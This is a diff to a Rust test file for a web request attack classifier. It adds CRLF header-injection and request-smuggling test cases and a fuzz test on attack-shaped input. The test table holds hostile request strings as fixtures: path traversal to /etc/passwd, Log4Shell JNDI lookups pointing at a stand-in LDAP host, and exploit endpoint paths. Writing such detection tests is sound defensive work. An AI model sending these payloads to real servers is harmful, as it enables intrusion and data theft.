@@ -5,7 +5,7 @@
 use super::*;
 
 fn kind(uri: &str) -> Option<AttackKind> {
-    WebClassifier::new()
+    classifier()
         .classify(b"GET", uri.as_bytes(), b"Mozilla/5.0", b"")
         .map(|h| h.kind)
 }
@@ -88,6 +88,14 @@ fn attacks_are_recognised() {
         ("/.cursor/mcp.json", SensitiveFile),
         ("/example.com.zip", SensitiveFile),
         ("/mgmt/tm/util/bash", KnownExploit),
+        (
+            "/redirect?to=%0d%0aSet-Cookie:%20session=attacker",
+            ProtocolAttack,
+        ),
+        (
+            "/a?x=1%20HTTP/1.1%0d%0aHost:%20x%0d%0a%0d%0aGET%20/admin%20HTTP/1.1",
+            ProtocolAttack,
+        ),
         ("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", KnownExploit),
         ("/?x=${jndi:ldap://x.example/a}", Jndi),
         ("/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D", Jndi),
@@ -214,7 +222,27 @@ proptest::proptest! {
     #[test]
     fn never_panics(uri in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..300),
                     ua in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..100)) {
-        let c = WebClassifier::new();
+        let c = classifier();
         let _ = c.classify(b"POST", &uri, &ua, &ua);
     }
+}
+
+proptest::proptest! {
+    /// Attack-shaped noise: the characters the decoders and patterns care about, so
+    /// that entity decoding, shell squeezing and the exploit table are all reached.
+    #[test]
+    fn never_panics_on_attack_shaped_input(
+        uri in "/[a-z0-9./?=&%#;$(){}'\"\\\\<>|`:@+*~\\-\u{1f}\u{3042}]{0,200}",
+        ua in "[(){}$:;a-z /%]{0,60}",
+    ) {
+        let c = classifier();
+        for method in [&b"GET"[..], b"POST", b"PUT"] {
+            let _ = c.classify(method, uri.as_bytes(), ua.as_bytes(), ua.as_bytes());
+        }
+    }
+}
+
+fn classifier() -> &'static WebClassifier {
+    static C: std::sync::OnceLock<WebClassifier> = std::sync::OnceLock::new();
+    C.get_or_init(WebClassifier::new)
 }
